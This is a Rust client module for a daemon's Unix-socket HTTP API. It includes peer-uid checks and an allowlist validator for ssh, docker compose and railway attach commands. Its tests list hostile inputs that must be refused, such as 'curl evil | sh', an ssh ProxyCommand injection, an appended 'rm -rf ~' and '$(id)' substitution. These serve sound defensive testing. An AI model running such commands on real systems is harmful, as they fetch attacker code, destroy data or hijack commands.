//! HTTP/1.1 over the daemon's Unix socket. All transport code lives here.
//!
//! Every connection is checked before a byte is sent: the process listening at the socket
//! must run as our own uid (SO_PEERCRED). Whoever else managed to listen there (a stale path,
//! a shared folder) gets neither the secret values a command hands over nor the chance to
//! make us run an attach command; [`check_attach_argv`] further accepts only the attach
//! commands the daemon's providers build.

use bytes::Bytes;
use http_body_util::{BodyExt, Full};
use hyper::{Method, Request, StatusCode};
use hyper_util::rt::TokioIo;
use megaplan_cloud_api::paths::SocketSource;
use megaplan_cloud_api::{ErrorBody, ErrorCode};
use serde_json::Value;
use std::path::PathBuf;

pub struct DaemonClient {
    pub socket: PathBuf,
    pub source: SocketSource,
}

/// What went wrong talking to the daemon.
#[derive(Debug)]
pub enum ClientError {
    /// The socket did not answer: exit code 69 (EX_UNAVAILABLE) with how to start the daemon.
    Unreachable(ErrorBody),
    /// The daemon answered with a structured error.
    Api(ErrorBody),
}

impl ClientError {
    /// The structured error either way.
    pub fn body(&self) -> &ErrorBody {
        match self {
            ClientError::Unreachable(b) | ClientError::Api(b) => b,
        }
    }
}

impl std::fmt::Display for ClientError {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        let b = self.body();
        write!(f, "{}: {}", b.error, b.message)
    }
}

impl std::error::Error for ClientError {}

impl DaemonClient {
    pub fn new(socket: PathBuf, source: SocketSource) -> Self {
        DaemonClient { socket, source }
    }

    fn unreachable(&self, why: impl std::fmt::Display) -> ClientError {
        ClientError::Unreachable(
            ErrorBody::new(
                ErrorCode::DaemonUnreachable,
                format!(
                    "cannot reach megaplan-cloudd at {} (from {}): {why}. Start it with `megaplan-cloudd` \
                     (or `systemctl --user start megaplan-cloudd`), or point --socket / $MEGAPLAN_CLOUDD_SOCKET at a running daemon",
                    self.socket.display(),
                    self.source.describe()
                ),
            )
            .with("socket", self.socket.display().to_string()),
        )
    }

    async fn send(
        &self,
        method: Method,
        path_and_query: &str,
        body: Option<&Value>,
    ) -> Result<hyper::Response<hyper::body::Incoming>, ClientError> {
        let stream = tokio::net::UnixStream::connect(&self.socket)
            .await
            .map_err(|e| self.unreachable(e))?;
        self.check_peer(&stream)?;
        let (mut sender, conn) = hyper::client::conn::http1::handshake(TokioIo::new(stream))
            .await
            .map_err(|e| self.unreachable(error_chain(&e)))?;
        tokio::spawn(async move {
            // Errors surface on the request below.
            let _ = conn.await;
        });
        let bytes = match body {
            Some(v) => Bytes::from(serde_json::to_vec(v).unwrap_or_default()),
            None => Bytes::new(),
        };
        let req = Request::builder()
            .method(method)
            .uri(path_and_query)
            .header(hyper::header::HOST, "megaplan-cloudd")
            .header(hyper::header::CONTENT_TYPE, "application/json")
            .body(Full::new(bytes))
            .map_err(|e| self.unreachable(e))?;
        sender
            .send_request(req)
            .await
            .map_err(|e| self.unreachable(error_chain(&e)))
    }

    /// Refuse a socket served by a process of another uid, before anything is sent to it.
    fn check_peer(&self, stream: &tokio::net::UnixStream) -> Result<(), ClientError> {
        // SAFETY: geteuid has no preconditions and cannot fail.
        let me = unsafe { libc::geteuid() };
        let server = stream.peer_cred().ok().map(|c| c.uid());
        match server_uid_problem(server, me) {
            None => Ok(()),
            Some(why) => Err(ClientError::Api(
                ErrorBody::new(
                    ErrorCode::ProtocolError,
                    format!(
                        "refusing to talk to {} (from {}): {why}; nothing was sent to it. Stop whatever listens there, or point --socket / $MEGAPLAN_CLOUDD_SOCKET at your own megaplan-cloudd",
                        self.socket.display(),
                        self.source.describe()
                    ),
                )
                .with("socket", self.socket.display().to_string()),
            )),
        }
    }

    /// A request whose whole answer is one JSON document.
    pub async fn json(
        &self,
        method: Method,
        path_and_query: &str,
        body: Option<&Value>,
    ) -> Result<Value, ClientError> {
        let resp = self.send(method, path_and_query, body).await?;
        let status = resp.status();
        let bytes = resp
            .into_body()
            .collect()
            .await
            .map_err(|e| self.unreachable(e))?
            .to_bytes();
        let value: Value = serde_json::from_slice(&bytes).map_err(|e| {
            ClientError::Api(ErrorBody::new(
                ErrorCode::ProtocolError,
                format!("the daemon answered HTTP {status} with something that is not JSON ({e}); is it the same version as this client?"),
            ))
        })?;
        if status.is_success() {
            Ok(value)
        } else {
            Err(ClientError::Api(as_error(value, status)))
        }
    }

    /// A request whose answer is one JSON document of type `T` (an answer of another shape is
    /// a `protocol_error`).
    pub async fn typed<T: serde::de::DeserializeOwned>(
        &self,
        method: Method,
        path_and_query: &str,
        body: Option<&Value>,
    ) -> Result<T, ClientError> {
        let v = self.json(method, path_and_query, body).await?;
        parse_answer(path_and_query, v)
    }

    /// A streaming request: each NDJSON line is handed to `on_line` as it arrives.
    pub async fn stream(
        &self,
        path_and_query: &str,
        body: &Value,
        mut on_line: impl FnMut(&str),
    ) -> Result<(), ClientError> {
        let resp = self.send(Method::POST, path_and_query, Some(body)).await?;
        self.read_lines(resp, &mut on_line).await
    }

    pub async fn stream_get(
        &self,
        path_and_query: &str,
        mut on_line: impl FnMut(&str),
    ) -> Result<(), ClientError> {
        let resp = self.send(Method::GET, path_and_query, None).await?;
        self.read_lines(resp, &mut on_line).await
    }

    async fn read_lines(
        &self,
        resp: hyper::Response<hyper::body::Incoming>,
        on_line: &mut impl FnMut(&str),
    ) -> Result<(), ClientError> {
        let status = resp.status();
        let mut body = resp.into_body();
        if !status.is_success() {
            let bytes = body
                .collect()
                .await
                .map_err(|e| self.unreachable(e))?
                .to_bytes();
            let v: Value = serde_json::from_slice(&bytes).unwrap_or(Value::Null);
            return Err(ClientError::Api(as_error(v, status)));
        }
        let mut buf: Vec<u8> = Vec::new();
        while let Some(frame) = body.frame().await {
            let frame = frame.map_err(|e| self.unreachable(format!("the stream broke: {e}")))?;
            if let Some(data) = frame.data_ref() {
                buf.extend_from_slice(data);
                while let Some(pos) = buf.iter().position(|b| *b == b'\n') {
                    let line: Vec<u8> = buf.drain(..=pos).collect();
                    on_line(String::from_utf8_lossy(&line).trim_end());
                }
            }
        }
        if !buf.is_empty() {
            on_line(String::from_utf8_lossy(&buf).trim_end());
        }
        Ok(())
    }
}

/// An answer read as the api type of its route.
pub fn parse_answer<T: serde::de::DeserializeOwned>(
    route: &str,
    v: Value,
) -> Result<T, ClientError> {
    serde_json::from_value(v).map_err(|e| {
        ClientError::Api(ErrorBody::new(
            ErrorCode::ProtocolError,
            format!("the daemon's answer to {route} is not of the expected shape ({e}); is it the same version as this client?"),
        ))
    })
}

/// [`DaemonClient`] for programs without an async runtime of their own (the benchmark program,
/// tests): every call runs on one current-thread runtime held here.
pub struct BlockingClient {
    pub client: DaemonClient,
    rt: tokio::runtime::Runtime,
}

impl BlockingClient {
    /// A client of the daemon at `socket` (named by a flag, as far as error messages go).
    pub fn new(socket: impl Into<PathBuf>) -> std::io::Result<BlockingClient> {
        Ok(BlockingClient {
            client: DaemonClient::new(socket.into(), SocketSource::Flag),
            rt: tokio::runtime::Builder::new_current_thread()
                .enable_all()
                .build()?,
        })
    }

    /// [`DaemonClient::json`], blocking.
    pub fn json(
        &self,
        method: Method,
        path_and_query: &str,
        body: Option<&Value>,
    ) -> Result<Value, ClientError> {
        self.rt
            .block_on(self.client.json(method, path_and_query, body))
    }

    /// [`DaemonClient::typed`], blocking.
    pub fn typed<T: serde::de::DeserializeOwned>(
        &self,
        method: Method,
        path_and_query: &str,
        body: Option<&Value>,
    ) -> Result<T, ClientError> {
        parse_answer(path_and_query, self.json(method, path_and_query, body)?)
    }
}

fn as_error(v: Value, status: StatusCode) -> ErrorBody {
    serde_json::from_value::<ErrorBody>(v.clone()).unwrap_or_else(|_| {
        ErrorBody::new(
            ErrorCode::ProtocolError,
            format!("the daemon answered HTTP {status}: {v}"),
        )
    })
}

fn error_chain(e: &dyn std::error::Error) -> String {
    let mut s = e.to_string();
    let mut cur = e.source();
    while let Some(c) = cur {
        s.push_str(": ");
        s.push_str(&c.to_string());
        cur = c.source();
    }
    s
}

/// Why a server of uid `server` must not be trusted by a client of uid `me` (`None`: trust it).
pub fn server_uid_problem(server: Option<u32>, me: u32) -> Option<String> {
    match server {
        Some(uid) if uid == me => None,
        Some(uid) => Some(format!("it is served by uid {uid}, not by you (uid {me})")),
        None => Some("the serving process's uid cannot be read (SO_PEERCRED)".to_string()),
    }
}

/// Accept only the attach commands the daemon's providers build (daemon/src/provider/):
/// - ssh: `ssh -S <ctl> -o ControlMaster=no [-F <cfg>] -p <port> [-i <key> -o IdentitiesOnly=yes]
///   -o ConnectTimeout=10 -t <[user@]host> -- docker exec -it <container> tmux attach -t agent`
/// - local: `docker compose -p <project> -f <file> exec agent tmux attach -t agent`, or the same
///   with `docker-compose`;
/// - railway: `<railway> ssh [--environment <env>] --service <service> --session <session>`
///   (`<railway>` named `railway`, by name or path).
///
/// Anything else (an `-o ProxyCommand=...`, another program, extra words) is refused: the
/// argv runs on this terminal as the user.
pub fn check_attach_argv(argv: &[String]) -> Result<(), String> {
    let words: Vec<&str> = argv.iter().map(String::as_str).collect();
    let ok = match words.split_first() {
        Some((&"ssh", rest)) => ssh_attach_ok(rest),
        Some((&"docker", ["compose", rest @ ..])) | Some((&"docker-compose", rest)) => {
            compose_attach_ok(rest)
        }
        Some((prog, rest)) if program_named(prog, "railway") => railway_attach_ok(rest),
        _ => false,
    };
    if ok {
        Ok(())
    } else {
        Err(format!(
            "the daemon asked to run an attach command of an unknown shape; refusing to run it: {}",
            argv.iter()
                .map(|w| format!("{w:?}"))
                .collect::<Vec<_>>()
                .join(" ")
        ))
    }
}

fn program_named(prog: &str, name: &str) -> bool {
    prog == name || (prog.starts_with('/') && prog.rsplit('/').next() == Some(name))
}

/// A word that cannot be taken for an option and carries no shell or control characters.
fn plain_word(w: &str) -> bool {
    !w.is_empty()
        && !w.starts_with('-')
        && w.bytes()
            .all(|b| b.is_ascii_graphic() && !b"'\"`$;&|<>\\(){}*?![]~#".contains(&b))
}

/// A Docker name as cloud.yaml allows it (`[a-z0-9][a-z0-9_.-]*`).
fn docker_name(w: &str) -> bool {
    w.starts_with(|c: char| c.is_ascii_lowercase() || c.is_ascii_digit())
        && w.bytes()
            .all(|b| b.is_ascii_lowercase() || b.is_ascii_digit() || b"_.-".contains(&b))
}

fn abs_path(w: &str) -> bool {
    w.starts_with('/') && !w.contains('\0') && !w.contains('\n')
}

fn ssh_attach_ok(rest: &[&str]) -> bool {
    let mut i = 0;
    let mut seen_control = false;
    while i < rest.len() {
        match rest[i] {
            "-S" | "-F" | "-i" if rest.get(i + 1).is_some_and(|p| abs_path(p)) => {
                seen_control |= rest[i] == "-S";
                i += 2;
            }
            "-p" if rest
                .get(i + 1)
                .is_some_and(|p| p.parse::<u16>().is_ok_and(|n| n > 0)) =>
            {
                i += 2
            }
            "-o" if rest.get(i + 1).is_some_and(|o| {
                matches!(
                    *o,
                    "ControlMaster=no" | "IdentitiesOnly=yes" | "ConnectTimeout=10"
                )
            }) =>
            {
                i += 2
            }
            "-t" => i += 1,
            _ => break,
        }
    }
    match &rest[i..] {
        [dest, "--", remote] => seen_control && plain_word(dest) && remote_attach_ok(remote),
        _ => false,
    }
}

/// `docker exec -it <container> tmux attach -t agent`, the container a Docker name.
fn remote_attach_ok(remote: &str) -> bool {
    let w: Vec<&str> = remote.split(' ').collect();
    matches!(
        w.as_slice(),
        ["docker", "exec", "-it", c, "tmux", "attach", "-t", "agent"] if docker_name(c)
    )
}

fn compose_attach_ok(rest: &[&str]) -> bool {
    matches!(
        rest,
        ["-p", project, "-f", file, "exec", "agent", "tmux", "attach", "-t", "agent"]
            if docker_name(project) && abs_path(file)
    )
}

fn railway_attach_ok(rest: &[&str]) -> bool {
    let Some((&"ssh", mut flags)) = rest.split_first() else {
        return false;
    };
    let mut service = false;
    let mut session = false;
    while let [flag, value, tail @ ..] = flags {
        if !plain_word(value) {
            return false;
        }
        match *flag {
            "--environment" => {}
            "--service" => service = true,
            "--session" => session = true,
            _ => return false,
        }
        flags = tail;
    }
    flags.is_empty() && service && session
}

/// Percent-encode a query value.
pub fn enc(v: &str) -> String {
    let mut out = String::new();
    for b in v.bytes() {
        if b.is_ascii_alphanumeric() || b"-_.~/".contains(&b) {
            out.push(b as char);
        } else {
            out.push_str(&format!("%{b:02X}"));
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    fn v(words: &[&str]) -> Vec<String> {
        words.iter().map(|w| w.to_string()).collect()
    }

    #[test]
    fn attach_argv_of_the_known_shapes_is_accepted() {
        for argv in [
            v(&[
                "ssh",
                "-S",
                "/run/user/0/megaplan-cloudd/ssh/c-1",
                "-o",
                "ControlMaster=no",
                "-F",
                "/home/op/.ssh/config",
                "-p",
                "2222",
                "-i",
                "/k/id",
                "-o",
                "IdentitiesOnly=yes",
                "-o",
                "ConnectTimeout=10",
                "-t",
                "root@127.0.0.1",
                "--",
                "docker exec -it megaplan-cloud-agent tmux attach -t agent",
            ]),
            v(&[
                "ssh",
                "-S",
                "/s/c",
                "-o",
                "ControlMaster=no",
                "-p",
                "22",
                "-o",
                "ConnectTimeout=10",
                "-t",
                "box",
                "--",
                "docker exec -it a.1_b tmux attach -t agent",
            ]),
            v(&[
                "docker",
                "compose",
                "-p",
                "megaplan-cloud",
                "-f",
                "/d/docker-compose.yml",
                "exec",
                "agent",
                "tmux",
                "attach",
                "-t",
                "agent",
            ]),
            v(&[
                "docker-compose",
                "-p",
                "p1",
                "-f",
                "/d/c.yml",
                "exec",
                "agent",
                "tmux",
                "attach",
                "-t",
                "agent",
            ]),
            v(&["railway", "ssh", "--service", "agent", "--session", "agent"]),
            v(&[
                "/usr/local/bin/railway",
                "ssh",
                "--environment",
                "production",
                "--service",
                "agent",
                "--session",
                "s2",
            ]),
        ] {
            check_attach_argv(&argv).unwrap_or_else(|e| panic!("{argv:?}: {e}"));
        }
    }

    #[test]
    fn attach_argv_of_any_other_shape_is_refused() {
        for argv in [
            v(&[]),
            v(&["sh", "-c", "curl evil | sh"]),
            v(&[
                "ssh",
                "-S",
                "/s/c",
                "-o",
                "ProxyCommand=touch /tmp/pwned",
                "-t",
                "box",
                "--",
                "docker exec -it a tmux attach -t agent",
            ]),
            v(&[
                "ssh",
                "-S",
                "/s/c",
                "-t",
                "box",
                "--",
                "docker exec -it a tmux attach -t agent; rm -rf ~",
            ]),
            v(&[
                "ssh",
                "-S",
                "/s/c",
                "-t",
                "-oProxyCommand=x",
                "--",
                "docker exec -it a tmux attach -t agent",
            ]),
            v(&[
                "ssh",
                "-t",
                "box",
                "--",
                "docker exec -it a tmux attach -t agent",
            ]),
            v(&[
                "docker", "compose", "-p", "p", "-f", "/d/c.yml", "exec", "agent", "sh",
            ]),
            v(&["docker", "run", "--privileged", "x"]),
            v(&["railway", "run", "--service", "agent", "--session", "agent"]),
            v(&[
                "railway",
                "ssh",
                "--service",
                "agent",
                "--session",
                "agent",
                "--",
                "sh",
            ]),
            v(&["railway", "ssh", "--service", "$(id)", "--session", "agent"]),
            v(&[
                "/tmp/railway-evil/notrailway",
                "ssh",
                "--service",
                "a",
                "--session",
                "b",
            ]),
            v(&["./railway", "ssh", "--service", "a", "--session", "b"]),
        ] {
            assert!(
                check_attach_argv(&argv).is_err(),
                "{argv:?} must be refused"
            );
        }
    }

    #[test]
    fn only_a_server_of_our_own_uid_is_trusted() {
        assert_eq!(server_uid_problem(Some(1000), 1000), None);
        assert!(server_uid_problem(Some(0), 1000).unwrap().contains("uid 0"));
        assert!(server_uid_problem(None, 1000).is_some());
    }
}
